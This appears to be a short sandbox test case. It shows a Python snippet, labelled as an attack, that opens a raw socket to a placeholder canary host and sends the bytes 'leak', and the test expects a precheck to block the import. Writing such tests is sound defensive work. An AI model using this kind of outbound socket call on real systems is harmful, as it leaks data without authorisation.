# attack: raw socket to the canary
# expect: precheck:import-not-allowed
# unguarded: python
import socket
socket.create_connection(("CANARY_HOST", CANARY_PORT), timeout=2).sendall(b"leak")
